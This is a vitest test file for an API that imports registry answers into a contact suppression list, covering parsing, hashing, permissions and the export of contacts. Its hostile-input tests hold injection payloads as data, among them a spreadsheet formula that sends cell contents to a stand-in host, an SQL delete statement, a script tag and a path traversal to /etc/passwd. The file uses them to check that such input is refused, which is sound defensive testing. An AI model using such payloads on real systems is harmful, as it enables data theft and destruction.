import { createHash } from "node:crypto";
import { beforeAll, describe, expect, test } from "vitest";
import type { RegistryImport, StartedRegistryImport } from "@/lib/leads/registry/schema";
import { asPlatform, db } from "@/lib/platform/db/client.server";
import type { TablePreview } from "@/lib/platform/tables/target";
import { isoDate } from "@/lib/platform/text/format";
import { api, type Refusal } from "../support/api";
import { makeSuppressions } from "../support/suppressions";
import { makeAdmin, makeLead, makeTenant, makeUser, type TestTenant, type TestUser, unique } from "../support/world";

const SOME_TIME = { timeout: 30_000, interval: 100 };
const today = () => isoDate(new Date());
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
const digits = () => String(Math.floor(Math.random() * 1e8)).padStart(8, "0");

let admin: TestUser;
let tenant: TestTenant;
beforeAll(async () => {
  admin = await makeAdmin();
  tenant = await makeTenant();
});

const send = (content: string, answered_on: string, user = admin) =>
  api(user).form<StartedRegistryImport & Refusal>("/api/registry-imports", {
    answered_on,
    file: new File([content], "answer.csv"),
  });

async function importAnswer(content: string, answered_on = today()): Promise<RegistryImport> {
  const { status, body } = await send(content, answered_on);
  expect(status, JSON.stringify(body)).toBe(201);
  const read = async () => (await api(admin).get<RegistryImport>(`/api/registry-imports/${body.id}`)).body;
  await expect.poll(async () => (await read()).status, SOME_TIME).toBe("done");
  return read();
}

const listings = (values: string[]) =>
  asPlatform(() => db.suppression.findMany({ where: { value: { in: values } }, orderBy: { id: "asc" } }));

describe("an answer of the registry", () => {
  test("suppresses plain contacts for every organisation, with the day since when, and its proof is kept", async () => {
    const [phone, email] = [`082${digits().slice(1)}`, `${unique()}@example.test`];
    const content = `contact,listed_on\n${phone},2026-10-02\n${email},\nnot a contact,\n`;
    const answer = await importAnswer(content, "2026-11-01");
    expect(answer).toMatchObject({
      ...{ rows: 3, invalid: 1, contacts: 2, finished: 2, hits: 2, added: 2 },
      ...{ sha256: sha256(content), answered_on: "2026-11-01", actor_name: expect.stringMatching(/^Test /) },
    });
    const rows = await listings([`+27${phone.slice(1)}`, email]);
    expect(rows.map(({ source, tenant_id }) => [source, tenant_id])).toEqual([
      ["registry", null],
      ["registry", null],
    ]);
    expect(rows.map(({ listed_on }) => listed_on?.toISOString().slice(0, 10)).sort()).toEqual([
      "2026-10-02",
      "2026-11-01",
    ]);
    expect(await asPlatform(() => db.registryImportRow.count({ where: { import_id: answer.id } }))).toBe(0);
  });

  test("counts its rows, names those that can't be read, and blocks nobody by other numbers or words", async () => {
    const [one, two, three] = [`082${digits().slice(1)}`, `083${digits().slice(1)}`, `084${digits().slice(1)}`];
    const batch = `71${digits().slice(1)}`;
    const rows = [`${one},${batch},Listed`, `x,${batch},Listed`, `${two},${batch},NOT FOUND`, `${three},${batch},`];
    const { status, body } = await send(["Cell No,Batch No,Status", ...rows].join("\n"), today());
    expect([status, body]).toMatchObject([
      201,
      {
        ...{ rows: 4, invalid: 2, contacts: 2, ignored: ["Batch No", "Status"] },
        unread: [
          { row: 3, message: expect.stringMatching(/^Cell No: /) },
          { row: 4, message: expect.stringContaining("“NOT FOUND” says this contact isn't on the registry") },
        ],
      },
    ]);
    await expect.poll(() => listings([one, three].map((phone) => `+27${phone.slice(1)}`)), SOME_TIME).toHaveLength(2);
    expect(await listings([`+27${batch}`, `+27${two.slice(1)}`])).toEqual([]);
    const refused = await send(`Cell No,Status\n${two},No match\n`, today());
    expect(refused).toMatchObject({
      status: 422,
      body: { errors: { file: [expect.stringContaining("Row 2: “No match”")] } },
    });
  });

  test("is shown first, and read by the columns that are chosen", async () => {
    const [one, two] = [`082${digits().slice(1)}`, `083${digits().slice(1)}`];
    const content = `Number;Since;Old number\n${one};02/10/2026;${two}\n`;
    const file = new File([content], "answer.csv");
    const mapping = JSON.stringify({ Number: "contact", Since: "listed_on" });
    const preview = (fields: object) =>
      api(admin).form<TablePreview>("/api/registry-imports/preview", { file, ...fields });
    expect((await preview({})).body.columns.map(({ field }) => field)).toEqual(["contact", "contact", "contact"]);
    expect((await preview({ mapping })).body.rows).toMatchObject([{ row: 2, message: null }]);
    const { status, body } = await api(admin).form<RegistryImport>("/api/registry-imports", {
      ...{ answered_on: "2026-11-01", file, mapping },
    });
    expect([status, body]).toMatchObject([201, { rows: 1, contacts: 1 }]);
    await expect
      .poll(() => listings([`+27${one.slice(1)}`]), SOME_TIME)
      .toMatchObject([{ listed_on: new Date("2026-10-02") }]);
    expect(await listings([`+27${two.slice(1)}`])).toEqual([]);
  });

  test("matches hashes with the contacts that were exported, in any spelling of a number", async () => {
    const [one, two] = [`+2782${digits().slice(1)}`, `+2783${digits().slice(1)}`];
    const email = `${unique()}@example.test`;
    await makeLead(tenant, { phone: one, alt_phone: two, email });
    const hashes = [sha256(one).toUpperCase(), sha256(two.replace("+27", "0")), sha256(email), sha256(unique())];
    const answer = await importAnswer(hashes.join("\n"));
    expect(answer).toMatchObject({ rows: 4, contacts: 4, hits: 3, added: 3 });
    expect(await listings([one, two, email])).toHaveLength(3);
  });

  test("never stands in for a person's own request", async () => {
    const email = `${unique()}@example.test`;
    await asPlatform(() => makeSuppressions({ data: { tenant_id: tenant.id, kind: "email", value: email } }));
    await importAnswer(`${email}\n`);
    expect((await listings([email])).map(({ source }) => source).sort()).toEqual(["registry", "request"]);
    expect((await importAnswer(`${email}\n`)).added).toBe(0);
  });

  test("is refused without a contact, of a later day, and from anybody but an administrator", async () => {
    expect((await send("name\nThandi\n", today())).status).toBe(422);
    expect((await send("a@example.test\n", "2999-01-01")).status).toBe(422);
    const manager = await makeUser(tenant, { permissions: ["suppressions.store", "leads.allocate"] });
    expect((await send("a@example.test\n", today(), manager)).status).toBe(403);
  });
});

describe("a hostile answer", () => {
  test.each([
    ["a picture", "\u0089PNG\r\n\u0000\u0000"],
    ["a cell of a megabyte", `a@example.test,${"x".repeat(1_000_000)}`],
    ["a row of a million commas", `a@example.test${",".repeat(1_000_000)}`],
    ["nothing but line breaks", "\n".repeat(10_000)],
  ])("that is %s is refused, and leaves nothing behind", async (_, content) => {
    const before = await asPlatform(() => db.registryImport.count({ where: { actor_id: admin.id } }));
    const { status, body } = await send(content, today());
    expect([status, body]).toEqual([422, expect.objectContaining({ errors: { file: [expect.any(String)] } })]);
    expect(await asPlatform(() => db.registryImport.count({ where: { actor_id: admin.id } }))).toBe(before);
  });

  test("that has a quotation mark that is never closed loses its row alone", async () => {
    const email = `${unique()}@example.test`;
    const answer = await importAnswer(`"a@example.test\n${`${email}\n`.repeat(2_000)}`);
    expect(answer).toMatchObject({ rows: 2_001, invalid: 1, contacts: 1, added: 1 });
  });

  test("suppresses nobody by formulas, markup and cells that only look like contacts", async () => {
    const email = `${unique()}@example.test`;
    const cells = [
      ...[`=HYPERLINK("http://x.test/?"&A1)`, "<script>alert(1)</script>@", "'; DELETE FROM suppressions; --"],
      ...["+1", "0000000000", "a@b", `${"a".repeat(300)}@example.test`, "g".repeat(64), "../../etc/passwd"],
    ];
    const answer = await importAnswer([email, ...cells.map((cell) => `"${cell.replaceAll('"', '""')}"`)].join("\n"));
    expect(answer).toMatchObject({ rows: cells.length + 1, invalid: cells.length, contacts: 1, added: 1 });
  });
});

describe("the list to be cleansed", () => {
  test("has the contacts of all organisations, in plain or as the hashes of the same", async () => {
    const email = `${unique()}@example.test`;
    await makeLead(await makeTenant(), { email });
    const read = async (format: string) =>
      (await api(admin).get<string>(`/api/registry-imports/contacts?format=${format}`)).body;
    expect(await read("plain")).toContain(`email,${email}`);
    const hashed = await read("hashed");
    expect(hashed).toContain(`email,${sha256(email)}`);
    expect(hashed).not.toContain(email);
  });
});
